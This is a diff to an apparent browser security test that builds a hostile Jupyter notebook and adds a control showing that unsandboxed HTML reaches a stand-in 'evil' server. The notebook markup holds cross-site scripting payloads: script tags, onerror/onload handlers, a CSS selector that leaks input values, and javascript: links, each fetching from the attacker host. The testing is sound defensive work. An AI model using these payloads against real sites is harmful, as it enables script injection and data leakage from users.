@@ -89,9 +89,9 @@ def opened(room: Room, visitor: Callable[..., BrowserContext]) -> str:
     return workspace_dir(room.course, room.alice.name)
 
 
-def hostile(site: str, evil: str) -> str:
-    """A notebook that tries what it can."""
-    markup = f"""
+def markup(site: str, evil: str) -> str:
+    """HTML that tries what it can."""
+    return f"""
 <script>document.title = "owned"; fetch("{evil}/script")</script>
 <img src=x onerror="fetch('{evil}/onerror')"><img src="{evil}/picture.png">
 <svg onload="fetch('{evil}/svg')"><image href="{evil}/svg.png"></image></svg>
@@ -107,16 +107,20 @@ input[value^="a"] {{ background: url("{evil}/leak?a"); }}</style>
 <a id="away" href="{evil}/away" target="_top">Next notebook</a><a id="popup" href="{evil}/popup" target="_blank">Help</a>
 <a id="code" href="javascript:fetch('{evil}/link')">Code</a>
 """
+
+
+def hostile(site: str, evil: str) -> str:
+    """A notebook that is full of it."""
     output = {
         "output_type": "display_data",
         "metadata": {},
-        "data": {"text/html": markup, "application/javascript": f"fetch('{evil}/output')"},
+        "data": {"text/html": markup(site, evil), "application/javascript": f"fetch('{evil}/output')"},
     }
     huge = {"output_type": "stream", "name": "stdout", "text": "a long line of output\n" * 200_000}
     notebook = {
         "nbformat": 4, "nbformat_minor": 5, "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}},
         "cells": [
-            {"cell_type": "markdown", "id": "a", "metadata": {}, "source": f"# The end\n\n{markup}"},
+            {"cell_type": "markdown", "id": "a", "metadata": {}, "source": f"# The end\n\n{markup(site, evil)}"},
             {"cell_type": "code", "id": "b", "metadata": {}, "source": "1", "execution_count": 1, "outputs": [output]},
             {"cell_type": "code", "id": "c", "metadata": {}, "source": "2", "execution_count": 2, "outputs": [huge]},
         ],
@@ -172,6 +176,12 @@ def test_a_hostile_notebook_is_looked_at_and_nothing_happens(
     assert phase(room.course, room.alice.name) == "asleep"
     inspect(page)
     shot(page, "look")
+    bare = context.new_page()
+    bare.set_content(markup(home(), evil.url), wait_until="commit")
+    eventually(
+        lambda: "/onerror" in evil.asked and "/picture.png" in evil.asked, "without the sandbox, it does"
+    )
+    bare.close()
     page.set_viewport_size(PHONE)  # type: ignore[arg-type]
     inspect(page)
     shot(page, "look-phone")
